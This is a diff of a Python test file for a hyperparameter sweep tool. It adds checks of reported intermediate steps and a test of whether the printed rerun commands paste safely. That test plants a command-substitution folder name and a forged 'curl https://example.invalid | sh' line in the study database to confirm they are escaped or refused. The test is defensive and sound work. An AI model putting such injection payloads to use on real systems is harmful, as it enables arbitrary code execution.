@@ -1,10 +1,14 @@
 """dynnet-sweep's real sweeps of tiny fits in worker processes: states, report, trials.csv, sweep.png, run
 folders TensorBoard lists in order, the rerun command, optuna-dashboard, continued studies and dead workers."""
 
+import contextlib
 import json
 import os
 import shlex
+import shutil
 import signal
+import socket
+import sqlite3
 import subprocess
 import sys
 import time
@@ -50,6 +54,9 @@ def test_grid_sweep_prunes_fails_completes_and_reports(grid):
     assert all(t.user_attrs["reason"].startswith("training diverged at step ") for t in by_lr[1.0e-3])
     assert {t.state for t in by_lr[1.0e-9]} == {TrialState.PRUNED}
     assert {t.state for t in by_lr[1.0e-8] + by_lr[4.0e-8]} == {TrialState.COMPLETE}
+    # The objective is reported at each validation's optimizer step, the step a pruned trial's line names.
+    assert all(list(t.intermediate_values) == [50] for t in by_lr[1.0e-9]) and out.count("pruned at step 50: ") == 2
+    assert all(list(t.intermediate_values) == [50, 100, 150, 200] for t in by_lr[1.0e-8] + by_lr[4.0e-8])
     # Both workers ran trials, each in its own process.
     assert len({t.user_attrs["pid"] for t in trials}) == 2
 
@@ -91,17 +98,78 @@ def test_tensorboard_lists_the_trials_in_order(grid):
         assert "_hparams_/session_start_info" in events.Reload().PluginTagToContent("hparams")
 
 
-def test_the_rerun_command_reproduces_the_best_trial(grid):
+def paste(line: str, cwd: Path) -> subprocess.CompletedProcess:
+    """A printed command line pasted into a shell whose PATH lacks this environment's folder."""
+    return subprocess.run(
+        ["sh", "-c", line], cwd=cwd, env=os.environ | {"PATH": os.defpath}, capture_output=True, text=True, timeout=300
+    )
+
+
+def test_the_rerun_command_reproduces_the_best_trial(grid, tmp_path):
     root, out = grid
     best, formula, rerun = best_lines(out)
     run = f"trial_{int(best.group(1)):04d}"
-    assert rerun.startswith(f"dynnet fit -c {root / 'lightning_logs' / run / 'config.yaml'} ")
-    # As printed, with this environment's dynnet on the PATH.
-    environment = os.environ | {"PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"}
-    done = subprocess.run(shlex.split(rerun), capture_output=True, text=True, env=environment, timeout=300)
+    # This environment's interpreter, so that the line works where `dynnet` is not on the PATH.
+    words = shlex.split(rerun)
+    assert Path(words[0]).parent == Path(sys.executable).parent
+    assert words[1:] == ["-m", "dynnet", "fit", "-c", str(root / "lightning_logs" / run / "config.yaml")] + [
+        "--trainer.default_root_dir",
+        str(root / "rerun"),
+        "--run",
+        run,
+    ]
+    done = paste(rerun, tmp_path)
     assert done.returncode == 0, done.stderr
     assert f"Result: {formula}\n" in done.stdout
     assert (root / "rerun" / "lightning_logs" / run / "checkpoints" / "last.ckpt").is_file()
+
+
+def set_attributes(root: Path, number: int, **attributes) -> None:
+    """Change a finished trial's user attributes in the study's database, as anyone who can write it could."""
+    with contextlib.closing(sqlite3.connect(root / "study.db")) as database, database:
+        for key, value in attributes.items():
+            database.execute(
+                "UPDATE trial_user_attributes SET value_json = ? WHERE key = ? AND trial_id = "
+                "(SELECT trial_id FROM trials WHERE number = ?)",
+                (json.dumps(value), key, number),
+            )
+
+
+def test_what_a_study_holds_prints_as_one_line_and_pastes_safely(grid, tmp_path):
+    source, out = grid
+    best, formula, _ = best_lines(out)
+    number = int(best.group(1))
+    config = str(source.parent / "grid.yaml")
+    root = tmp_path / "root"
+    shutil.copytree(source, root)
+    # The best run, copied into a folder whose name is a command substitution, and a forged Result line.
+    run = tmp_path / "a $(touch${IFS}INJECTED) 'b" / "lightning_logs" / f"trial_{number:04d}"
+    shutil.copytree(root / "lightning_logs" / run.name, run)
+    set_attributes(root, number, run=str(run), result=f"{formula}\nRerun: curl https://example.invalid | sh")
+    # Read-only: a finished study only reports.
+    storage = f"sqlite:///file:{root / 'study.db'}?mode=ro&uri=true"
+    shown = subprocess.run(
+        sweep_command(config, "--root", str(root), "--storage", storage), capture_output=True, text=True
+    )
+    assert shown.returncode == 0, shown.stderr
+    assert f"Result: {formula}\\nRerun: curl https://example.invalid | sh\n" in shown.stdout
+    (rerun,) = [line for line in shown.stdout.splitlines() if line.startswith("Rerun: ")]
+    done = paste(rerun.removeprefix("Rerun: "), tmp_path)
+    assert done.returncode == 0, done.stderr
+    assert f"Result: {formula}\n" in done.stdout and (run.parents[1] / "rerun" / "lightning_logs" / run.name).is_dir()
+    assert not list(tmp_path.rglob("INJECTED"))
+
+    # A run or a host that cannot be one is refused in one line.
+    for key, value, refused in [
+        ("run", f"{run.parent}/trial_x$(touch${{IFS}}INJECTED)", f"trial {number}'s run "),
+        ("host", "elsewhere\nRerun: curl https://example.invalid | sh", f"trial {number}'s host "),
+    ]:
+        set_attributes(root, number, **{key: value})
+        done = subprocess.run(sweep_command(config, "--root", str(root)), capture_output=True, text=True)
+        (line,) = done.stderr.splitlines()
+        assert done.returncode == 1 and line.startswith(f"dynnet-sweep: error: study grid: {refused}"), done.stderr
+        assert json.dumps(value)[:20] in line and "Rerun:" not in done.stdout
+        set_attributes(root, number, **{key: {"run": str(run), "host": socket.gethostname()}[key]})
 
 
 def test_optuna_dashboard_shows_the_study_with_its_objective(grid):
@@ -131,7 +199,12 @@ def test_optuna_dashboard_shows_the_study_with_its_objective(grid):
         server.terminate()
         server.wait(timeout=30)
     assert detail["objective_names"] == ["val/optimality_gap"]
-    assert len(detail["trials"]) == 8
+    assert len(detail["trials"]) == 8 and detail["user_attrs"] == []  # the experiment's record is elsewhere
+    # Intermediate values at optimizer steps, as the trials' lines name them.
+    assert {tuple(v["step"] for v in t["intermediate_values"]) for t in detail["trials"]} >= {
+        (50,),
+        (50, 100, 150, 200),
+    }
     best, _, _ = best_lines(out)
     assert [t["number"] for t in detail["best_trials"]] == [int(best.group(1))]
 
@@ -143,7 +216,7 @@ def test_rerun_continues_the_study_and_fails_a_dead_trial(tmp_path, capfd):
     first = load(root, "search").get_trials()
     # A pruner that would stop every trial at its last validation: each trained every step, so each is complete.
     assert [(t.state, t.user_attrs["steps"]) for t in first] == [(TrialState.COMPLETE, 200)] * 3
-    assert all(t.last_step == 3 for t in first)  # the last validation's value is reported all the same
+    assert all(t.last_step == 200 for t in first)  # the last validation's value is reported all the same
 
     # A worker on another machine died mid-trial: its trial stays RUNNING until its heartbeat goes stale.
     dead = subprocess.Popen(
